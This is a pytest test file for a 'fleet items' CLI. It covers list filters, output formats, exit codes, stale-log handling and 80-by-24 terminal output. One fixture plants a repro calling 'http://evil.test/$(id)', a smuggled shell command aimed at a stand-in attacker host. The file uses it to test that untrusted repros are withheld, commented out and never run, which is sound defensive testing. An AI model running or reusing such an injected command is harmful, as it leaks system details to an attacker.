"""`fleet items` and `fleet items show` over a list on disk: filters, formats, age, and 80 by 24."""

from __future__ import annotations

import fcntl
import http.server
import json
import os
import pty
import re
import struct
import subprocess
import sys
import termios
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from pathlib import Path
from typing import Any

import anyio
import pytest
from typer.testing import CliRunner, Result

from fleet.chain.node.codec import Entry
from fleet.cli.items import items
from fleet.cli.items.fresh import age
from fleet.clock import iso
from fleet.findings.repro import ReproCall, write_repro
from fleet.store.journal import Journal
from fleet.store.rows import DecisionRow, FindingRow, NewRun
from fleet.triage.items.life import Stage
from fleet.triage.items.worklist import ItemLink, RankFactor, WorklistItem
from fleet.triage.outputs.document import AuditRate, LogPosition, WorklistHeader
from fleet.triage.outputs.files import save
from tests.triage.outputs.test_formats import OWN, TEXTS, item

GOLDEN = Path(__file__).parent / "golden"
AT = "2026-11-21T22:51:10Z"
HEADER = WorklistHeader(platform="devnet", as_of=LogPosition(0, 42, AT))
FETCH = write_repro([ReproCall("qa_fetch", {"url": "http://site.test/llms.txt"})])


def own(number: int, title: str, **more: Any) -> WorklistItem:
    made = item(
        number, title, **OWN | {"surface": "ux", "links": (), "reason": "", "stuck": "", "why": "why"}
    )
    return replace(made, **more)


ITEMS = (
    own(
        1,
        "GET {site}/llms.txt: 500, expected the guide that every agent reads first, in plain text",
        fingerprint="abcdef012345",
        names=("abcdef012345", "00ff00ff00ff"),
        severity="critical",
        surface="security",
        repro=FETCH,
        since=AT,
        entry=3,
        days=2,
        count=4,
        stuck="a run that can look at it",
        stages=(Stage("new", AT, "qa-ux"), Stage("confirmed", AT, "3 of 3")),
        factors=(RankFactor("severity", "critical", 8.0, "qa-ux"),),
        links=(ItemLink("same-cause", "0" * 12, "the same page", "similarity", suggested=True),),
    ),
    *(own(number, f"finding number {number}", fingerprint=f"{number:012x}") for number in range(2, 31)),
    item(31, TEXTS[7], fingerprint="5" * 12, entry=1, surface="unknown"),
    own(0, "was fixed", fingerprint="f" * 12, state="verified-fixed", since=AT),
)


@pytest.fixture
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "state"
    path.mkdir(mode=0o700)
    save(path, ITEMS, HEADER)
    monkeypatch.setenv("STATE_DIRECTORY", str(path))
    return path


def _drawn(one: WorklistItem) -> str:
    """A fingerprint that differs from the others in its first digits, as real ones do."""
    counted = one.fingerprint.startswith("0000")
    return sha256(one.title.encode()).hexdigest()[:12] if counted else one.fingerprint


def call(*words: str, app: Any = items.app) -> Result:
    return CliRunner().invoke(app, list(words))


def listed(*words: str) -> list[str]:
    said = call("--offline", "--json", *words)
    assert said.exit_code == 0, said.output
    return [one["fingerprint"] for one in json.loads(said.stdout)]


@contextmanager
def refusing(state: Path, answer: str) -> Iterator[None]:
    """The platform `devnet` is behind a node that answers everything like this."""
    page = b"<html><body>back in an hour</body></html>"

    class Node(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            asked = json.loads(self.rfile.read(int(self.headers["content-length"])))
            what: dict[str, Any] = {"result": None}
            if answer == "error":
                what = {"error": {"code": -32005, "message": "limit exceeded"}}
            said = (
                [{"jsonrpc": "2.0", "id": one["id"]} | what for one in asked]
                if isinstance(asked, list)
                else ({"jsonrpc": "2.0", "id": asked["id"]} | what)
            )
            body = json.dumps(said).encode() if answer in ("error", "null") else page
            self.send_response(int(answer) if answer.isdigit() else 200)
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Node) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        if answer == "closed":
            server.socket.close()
        rpc = f"http://127.0.0.1:{server.server_address[1]}"
        (state / "devnet").mkdir(exist_ok=True)
        (state / "devnet/devnet.toml").write_text(
            f'name = "devnet"\n[chain]\nrpc = "{rpc}"\nid = 7\ndiamond = "0x{"d1" * 20}"\n[web]\n'
        )
        (state / "keys").mkdir(exist_ok=True, mode=0o700)
        (state / "keys/identity").write_text("11" * 32)
        (state / "keys/identity").chmod(0o600)
        try:
            yield
        finally:
            server.shutdown()
            thread.join()


def test_json_is_a_list_of_the_open_items(state: Path) -> None:
    assert listed() == [one.fingerprint for one in ITEMS if one.rank]
    assert listed("--limit", "2") == ["abcdef012345", f"{2:012x}"]
    assert listed("--state", "fixed") == ["f" * 12]
    assert len(listed("--state", "all")) == len(ITEMS)
    assert listed("--severity", "critical") == ["abcdef012345"]
    assert listed("--surface", "security", "-q", "GUIDE") == ["abcdef012345"]
    assert listed("--since", "2026-11-22") == []
    assert listed("--new", "--since", "2026-11-21") == listed()


@pytest.mark.parametrize(
    ("words", "why"),
    [
        (("--state", "gone"), "choose one of open, fixed, dismissed, snoozed, all"),
        (("--severity", "worst"), "critical, high, medium, low, info, unknown"),
        (("--surface", "kitchen"), "compiler, on-chain, perf, security, unknown, ux"),
        (("--since", "soon"), "write a number and s, m, h, d or w"),
        (("--csv", "--sarif"), "fleet items --help"),
    ],
)
def test_a_wrong_value_is_a_usage_error_that_names_the_valid_ones(
    state: Path, words: tuple[str, ...], why: str
) -> None:
    error = call("--offline", *words).exception
    assert getattr(error, "exit_code", None) == 2
    assert why in getattr(error, "remedy", "")


@pytest.mark.parametrize(
    ("option", "begin"),
    [
        ("--sarif", '{\n "$schema"'),
        ("--csv", "rank,fingerprint"),
        ("--junit", "<?xml"),
        ("--html", "<!DOCTYPE html>"),
        ("--digest", "# Since "),
        ("--schema", '{\n "$schema"'),
    ],
)
def test_every_format_goes_to_stdout(state: Path, option: str, begin: str) -> None:
    said = call("--offline", option)
    assert (said.exit_code, said.stdout.startswith(begin)) == (0, True)


def test_junit_has_the_closed_items_as_passed(state: Path) -> None:
    assert 'name="ffffffffffff was fixed"' in call("--offline", "--junit").stdout


def test_the_digest_is_a_command_and_an_option(state: Path) -> None:
    made = json.loads(call("digest", "--offline", "--since", "2026-11-21", "--json").stdout)
    assert [len(made[name]) for name in ("new", "fixed", "still", "strangers")] == [30, 1, 0, 1]
    again = json.loads(call("--offline", "--digest", "--json", "--since", "2026-11-21").stdout)
    assert again == made


def test_exit_code_says_whether_something_is_open(state: Path) -> None:
    assert call("--offline", "--exit-code").exit_code == 1
    assert call("--offline", "--exit-code", "--state", "fixed").exit_code == 0
    assert call("--offline").exit_code == 0


def test_without_a_platform_the_old_list_comes_with_a_warning(state: Path) -> None:
    said = call()
    assert said.exit_code == 0
    assert "the list may be older than the log: no platform named 'devnet'" in said.stderr
    first = said.stdout.splitlines()[0]
    assert first.startswith("as of log entry 41 (2026-11-21 22:51 UTC) (")
    assert first.endswith("old, log not read)")
    assert "abcdef012345" in said.stdout


@pytest.mark.parametrize("text", ["{", '{"schema": 2, "items": []}', '{"schema": 3, "items": 3}'])
@pytest.mark.parametrize("option", ["--json", "--sarif", "--offline"])
def test_a_list_that_cannot_be_read_is_said(state: Path, text: str, option: str) -> None:
    (state / "worklist.json").write_text(text)
    said = call("--offline", option)
    error = said.exception
    assert (getattr(error, "exit_code", None), said.stdout) == (3, "")
    assert "worklist.json: " in str(error)
    assert getattr(error, "remedy", "") == "fleet items rebuild"


GATES = ("--exit-code", "--json", "--sarif", "--csv", "--junit", "--html")


# Each output with one that refuses at once, and each answer once: for a busy node it waits 20 s.
@pytest.mark.parametrize(
    ("answer", "option"),
    [
        *(("403", option) for option in (*GATES, "--offline")),
        *((answer, "--json") for answer in ("429", "page", "error", "null", "closed")),
    ],
)
def test_a_log_that_was_never_read_is_never_clean(state: Path, answer: str, option: str) -> None:
    (state / "worklist.json").unlink()
    with refusing(state, answer):
        said = call(option)
    assert (getattr(said.exception, "exit_code", None), said.stdout) == (4, "")
    why = "there is no worklist yet" if option == "--offline" else "the log was not read: "
    assert str(said.exception).startswith(why)


@pytest.mark.parametrize(
    ("answer", "option"),
    [
        *(("403", option) for option in GATES),
        *((answer, "--json") for answer in ("429", "page", "error", "closed")),
    ],
)
def test_an_old_list_is_no_answer_for_a_program(state: Path, answer: str, option: str) -> None:
    with refusing(state, answer):
        said = call(option)
        shown = call()
    assert getattr(said.exception, "exit_code", None) == 4
    assert ("abcdef012345" in said.stdout) == (option == "--exit-code")  # a person sees the old one
    assert (shown.exit_code, "abcdef012345" in shown.stdout) == (0, True)
    assert "the list may be older than the log: " in shown.stderr


def test_a_digest_of_an_unread_log_is_no_answer_for_a_program(state: Path) -> None:
    with refusing(state, "429"):
        for words in (("digest", "--json"), ("--digest", "--json")):
            said = call(*words)
            assert (getattr(said.exception, "exit_code", None), said.stdout) == (4, "")
        assert call("digest").exit_code == 0
    (state / "worklist.json").unlink()
    with refusing(state, "403"):
        assert getattr(call("digest").exception, "exit_code", None) == 4
    for option in ("--digest", "--schema"):
        assert getattr(call("--exit-code", option).exception, "exit_code", None) == 2


def test_no_stranger_decides_about_the_exit_code(state: Path) -> None:
    stranger = next(one for one in ITEMS if not one.trusted)
    for severity in ("critical", "unknown"):
        save(state, [replace(stranger, rank=1, severity=severity)], HEADER)
        assert call("--offline", "--exit-code").exit_code == 0
        assert len(listed()) == 1
    save(state, ITEMS, HEADER)
    assert call("--offline", "--exit-code").exit_code == 1


def test_the_age_is_in_one_unit() -> None:
    now = datetime(2026, 11, 21, 12, tzinfo=UTC)
    ages = {3: "under a minute old", 60: "1 min old", 7_300: "2 h old", 3 * 86_400: "3 days old"}
    assert {seconds: age(iso(now - timedelta(seconds=seconds)), now) for seconds in ages} == ages
    assert age(iso(now + timedelta(hours=1)), now) == "under a minute old"
    assert age("", now) == ""


async def journalled(state: Path) -> None:
    planted = 'qa/v1 source=x sev=high surface=ux\ntitle\nrepro: qa_fetch(url="http://evil.test/$(id)")'
    async with await Journal.open(state / "fleet.db") as journal:
        await journal.mirror(0, 0, [Entry("0x" + "11" * 20, 1, text) for text in ("first", planted)])
        decision = DecisionRow(
            item="abcdef012345",
            kind="snooze",
            reason="after the release",
            who="ann",
            at=AT,
            platform="devnet",
            name="c" * 12,
            until="2026-12-01T00:00:00Z",
        )
        await journal.add_decision(decision)


def shown(*words: str) -> Result:
    return call("show", *words, app=items.app)


def test_an_item_that_is_only_on_the_log_is_shown(state: Path) -> None:
    anyio.run(journalled, state)
    said = shown("00ff", "--json")
    assert said.exit_code == 0, said.output
    data = json.loads(said.stdout)
    assert (data["fingerprint"], data["item"]["rank"]) == ("abcdef012345", 1)
    assert [one["reason"] for one in data["decisions"]] == ["after the release"]
    assert data["page"]["where"] == ["GET http://site.test/llms.txt"]
    assert data["page"]["script"].splitlines()[-2:] == [
        "curl -sS --globoff --path-as-is --max-time 30 -i \\",
        "  --url http://site.test/llms.txt",
    ]
    script = shown("00ff", "--script").stdout
    assert script == data["page"]["script"]
    assert (data["history"], data["evidence_files"]) == ([], [])


def test_a_strangers_repro_is_shown_on_demand_and_marked(state: Path) -> None:
    anyio.run(journalled, state)
    plain = shown("5555").stdout
    assert "Repro: a stranger's is withheld; --untrusted shows it" in plain
    assert "evil.test/$" not in plain
    asked = shown("5555", "--untrusted").stdout
    assert "A stranger's repro, never run by the fleet:" in asked
    commands = asked[asked.index("at your own risk:") :].splitlines()[1:]
    commands = commands[: next(at for at, one in enumerate(commands) if "# " not in one)]
    assert commands[-1] == "  #   --url 'http://evil.test/$(id)'"
    assert all(one.startswith("  # ") for one in commands)
    assert "\x1b" not in asked
    refused = shown("5555", "--script").exception
    assert getattr(refused, "rule", "") == "untrusted"


def test_what_a_person_decided_is_shown_with_what_was_undone(state: Path) -> None:
    async def decided() -> None:
        async with await Journal.open(state / "fleet.db") as journal:
            low = DecisionRow(
                item="abcdef012345",
                kind="severity",
                reason="internal",
                who="ann",
                at=AT,
                platform="devnet",
                name="a" * 12,
                severity="low",
            )
            undo = replace(low, kind="undo", severity="", name="b" * 12, undoes="a" * 12, reason="no")
            await journal.add_decision(low)
            await journal.add_decision(undo)
            await journal.trigger(
                NewRun(
                    run_id="run0",
                    persona="qa-ux",
                    key="k",
                    platform="devnet",
                    trigger="t",
                    rung="observe",
                    budget={},
                )
            )
            for name in ("abcdef012345", "00ff00ff00ff"):  # the other one was merged into it
                found = FindingRow(run_id="run0", fingerprint=name, severity="low", title=f"about {name}")
                await journal.add_finding(found)

    anyio.run(decided)
    said = shown("abcdef")
    assert said.exit_code == 0, said.output
    assert said.stdout.splitlines()[0].split()[-2:] == ["about", "abcdef012345"]
    lines = [line.strip() for line in said.stdout.splitlines() if " by ann: " in line]
    assert lines == ["severity low (undone) by ann: internal", f"undo {'a' * 12} by ann: no"]
    data = json.loads(shown("abcdef", "--json").stdout)
    assert [one["stands"] for one in data["decisions"]] == [False, True]


def test_beside_the_list_are_the_audit_and_what_strangers_have_too_much(state: Path) -> None:
    save(state, ITEMS, replace(HEADER, audit=AuditRate(4, 1), strangers_left=40))
    assert call("--offline").stdout.splitlines()[1:3] == [
        "audit     4 dismissed or low items proven again, 1 overturned (25%)",
        "strangers 40 entries beyond their share not listed",
    ]
    assert len(screen(state, "items", "--offline").splitlines()) <= 24


def test_what_begins_several_items_is_a_usage_error(state: Path) -> None:
    error = shown("0000").exception
    assert getattr(error, "exit_code", None) == 2
    assert "begins several items" in str(error)
    assert "no item or finding 'beef'" in str(shown("beef").exception)


def screen(state: Path, *words: str) -> str:
    """What the command shows on a terminal of 80 columns and 24 lines."""
    ours, theirs = pty.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
    environment = {"PATH": os.environ["PATH"], "STATE_DIRECTORY": str(state), "TERM": "dumb"}
    child = subprocess.Popen(
        [sys.executable, "-m", "fleet.cli", *words],
        stdin=subprocess.DEVNULL,
        stdout=theirs,
        stderr=theirs,
        env=environment,
    )
    os.close(theirs)
    found = b""
    while True:
        try:
            part = os.read(ours, 65_536)
        except OSError:  # the other end is closed
            break
        if not part:
            break
        found += part
    os.close(ours)
    assert child.wait(60) == 0
    text = found.decode().replace("\r\n", "\n")
    assert "\x1b]" not in text
    text = re.sub(r"confirmed for \d+ \w+", "confirmed for AGE", text)
    return re.sub(r"\((\d+ \w+|under a minute) old", "(AGE old", text)


def test_no_escape_of_a_stranger_reaches_a_terminal_or_a_pipe(state: Path) -> None:
    for text in (screen(state, "items", "--offline", "-q", "gnp"), call("--offline").stdout):
        assert "gnp.exe" in text
        assert [char for char in text if not (char.isprintable() or char in "\n\t")] == []


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("worklist", ("items", "--offline")),
        ("findings-show", ("items", "show", "abcdef012345")),
    ],
)
def test_golden_at_80_by_24(state: Path, name: str, words: tuple[str, ...]) -> None:
    anyio.run(journalled, state)
    save(state, [replace(one, fingerprint=_drawn(one)) for one in ITEMS], HEADER)
    text = screen(state, *words)
    path = GOLDEN / f"{name}.txt"
    if os.environ.get("UPDATE_GOLDEN"):
        path.parent.mkdir(exist_ok=True)
        path.write_text(text)
    assert text == path.read_text()
    assert len(text.splitlines()) <= 24
    if name == "worklist":
        assert max(map(len, text.splitlines())) <= 80
